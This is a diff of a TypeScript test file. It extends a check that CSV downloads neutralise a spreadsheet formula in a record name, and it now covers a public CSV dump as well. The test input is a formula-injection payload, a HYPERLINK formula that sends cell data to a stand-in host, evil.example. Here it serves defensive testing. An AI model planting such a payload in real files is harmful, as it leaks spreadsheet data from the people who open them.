@@ -234,7 +234,7 @@ async function waitForLockWait(): Promise<void> {
 }
 
 describe('CSV downloads', () => {
-  it('neutralise a record name that a spreadsheet would run as a formula', async () => {
+  it('neutralise a record name that a spreadsheet would run as a formula, in the curators\' files and the public dump', async () => {
     const name = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
     const record = await send('POST', '/fairsharing_records', 'curator', generalInformation({ name }));
     expect(record.statusCode, record.body).toBe(201);
@@ -245,5 +245,8 @@ describe('CSV downloads', () => {
     const row = files.body.split('\n').find((line) => line.startsWith(`${id},`));
     expect(row).toContain(`"'=HYPERLINK(`);
     expect(files.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    const dump = await app.inject({ url: '/export/records.csv' });
+    expect(dump.statusCode).toBe(200);
+    expect(dump.body.split('\r\n').find((line) => line.startsWith(`${id},`))).toContain(`"'=HYPERLINK(`);
   });
 });
